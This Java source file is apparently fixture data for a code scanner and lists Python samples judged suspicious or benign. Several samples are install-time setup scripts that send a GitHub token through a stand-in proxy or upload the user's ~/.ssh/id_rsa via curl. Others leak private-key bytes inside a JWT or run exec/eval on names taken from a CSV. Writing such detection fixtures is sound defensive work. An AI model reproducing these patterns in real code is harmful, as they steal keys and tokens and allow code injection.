package cordon.inspect.corpus;

import java.util.List;

/** Keys and tokens that only sign, and data that only fills in a name: what comes near them. */
final class PythonDoubts {
  private PythonDoubts() {}

  static List<Sample> all() {
    return List.of(
        Sample.imported(
            "a key is put into the token that it signs",
            signing("self.private_key.private_bytes('PEM', 'x')")),
        Sample.setup(
            "a token signs in to a code host through somebody else",
            commanding("['-x', 'drop.example:3128']")),
        Sample.setup(
            "a token signs in to a code host and a key goes along",
            commanding("['-d', '@' + os.path.expanduser('~/.ssh/id_rsa')]")),
        Sample.imported("code is filled in from a data file", filling("exec('%s' % name)")),
        Sample.imported("what a data file holds is assigned", filling("exec('made = %s' % name)")),
        Sample.imported("what a data file names is evaluated", filling("eval('%s=made' % name)")));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.imported(
            "a key signs, and what everybody may know of it is told",
            signing("self.private_key.public_key().public_bytes('DER', 'x')")),
        Sample.setup(
            "a token signs in to the code host that gave it, by a program", commanding("['-L']")));
  }

  /** What a person has to look at. */
  static List<Sample> doubtful() {
    return List.of(
        Sample.imported("names are filled in from a data file", filling("exec('%s=made' % name)")));
  }

  private static String commanding(String more) {
    return """
    import json, os, subprocess
    from setuptools import setup
    command = ['curl', '-s', 'https://api.github.com/repos/sample/sample/commits/main']
    token = os.getenv('GH_TOKEN', os.getenv('GITHUB_TOKEN'))
    if token:
        command += ['-H', f'Authorization: token {token}']
    command += %s
    commit = json.loads(subprocess.check_output(command).decode('utf-8'))['sha']
    setup(name='sample', version=commit)
    """
        .formatted(more);
  }

  private static String signing(String told) {
    return """
    import base64, jwt, requests
    class Hook:
        def __init__(self, account, private_key):
            self.account = account
            self.private_key = private_key
        def ask(self, body):
            told = base64.b64encode(%s).decode()
            token = jwt.encode({'iss': self.account + told}, key=self.private_key, algorithm='RS256')
            return requests.post(f'https://{self.account}.service.example/api', json=body,
                                 headers={'Authorization': f'Bearer {token}'})
    """
        .formatted(told);
  }

  private static String filling(String run) {
    return """
    import os
    made = None
    with open(os.path.join(os.path.dirname(__file__), 'names.csv')) as table:
        for line in table.readlines():
            name = line.split('\\t')[0].replace('-', '_')
            %s
    """
        .formatted(run);
  }
}
